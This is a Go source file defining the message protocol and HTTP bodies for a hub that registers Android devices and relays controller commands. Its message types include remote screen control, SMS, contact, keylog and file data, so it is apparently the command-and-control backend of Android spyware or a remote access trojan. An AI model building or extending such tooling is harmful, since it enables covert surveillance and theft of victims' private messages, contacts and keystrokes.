// Package protocol defines the wire messages exchanged over a hub
// connection and the JSON bodies of the HTTP endpoints. Every in-band
// message is a single tagged union with a Type discriminator; optional
// fields use omitempty so only the fields relevant to a given type
// appear on the wire.
package protocol

import "encoding/json"

// Inbound message types (device or controller to hub).
const (
	TypeRegisterDevice  = "register_device"
	TypeRegisterClient  = "register_client"
	TypeStartVNC        = "start_vnc"
	TypeScreenUpdate    = "screen_update"
	TypeVNCInput        = "vnc_input"
	TypeDeviceCommand   = "device_command"
	TypeCommandResponse = "command_response"
	TypeSMSData         = "sms_data"
	TypeContactData     = "contact_data"
	TypeKeylogData      = "keylog_data"
	TypeFileData        = "file_data"
	TypePing            = "ping"
)

// Outbound message types (hub to device or controller).
const (
	TypeDeviceList         = "device_list"
	TypeDeviceConnected    = "device_connected"
	TypeDeviceDisconnected = "device_disconnected"
	TypeStartCapture       = "start_capture"
	TypeScreenData         = "screen_data"
	TypeVNCEvent           = "vnc_event"
	TypePong               = "pong"
)

// Message is the union of all in-band messages. The Type field is the
// discriminator; which other fields are meaningful depends on it.
//
// ClientSocket carries an opaque connection handle: on messages the hub
// forwards to a device it names the controller to reply to, and on bulk
// replies from a device (command_response, sms_data, ...) it names the
// controller connection the reply is addressed to.
type Message struct {
	Type           string          `json:"type"`
	DeviceID       string          `json:"device_id,omitempty"`
	DeviceName     string          `json:"device_name,omitempty"`
	AndroidVersion string          `json:"android_version,omitempty"`
	IPAddress      string          `json:"ip_address,omitempty"`
	Command        string          `json:"command,omitempty"`
	Payload        string          `json:"payload,omitempty"`
	Result         string          `json:"result,omitempty"`
	Data           json.RawMessage `json:"data,omitempty"`
	Event          json.RawMessage `json:"event,omitempty"`
	ImageData      string          `json:"image_data,omitempty"`
	Image          string          `json:"image,omitempty"`
	ClientSocket   string          `json:"client_socket,omitempty"`
	Timestamp      int64           `json:"timestamp,omitempty"`
	Devices        []DeviceInfo    `json:"devices,omitempty"`
}

// DeviceInfo is the registry snapshot entry sent in device_list messages
// and returned by GET /devices.
type DeviceInfo struct {
	DeviceID       string `json:"device_id"`
	DeviceName     string `json:"device_name"`
	AndroidVersion string `json:"android_version"`
	IPAddress      string `json:"ip_address"`
	Online         bool   `json:"online"`
	LastSeen       int64  `json:"last_seen"`
}

// RegisterRequest is the body of POST /device/register.
type RegisterRequest struct {
	DeviceID       string `json:"device_id"`
	DeviceName     string `json:"device_name"`
	AndroidVersion string `json:"android_version"`
	IPAddress      string `json:"ip_address"`
}

// CommandRequest is the body of POST /command/{deviceId}.
type CommandRequest struct {
	Command string `json:"command"`
	Payload string `json:"payload,omitempty"`
}

// StatusSummary is the body of GET /.
type StatusSummary struct {
	Status         string `json:"status"`
	ServerTime     int64  `json:"server_time"`
	Devices        int    `json:"devices"`
	ActiveSessions int    `json:"active_sessions"`
}
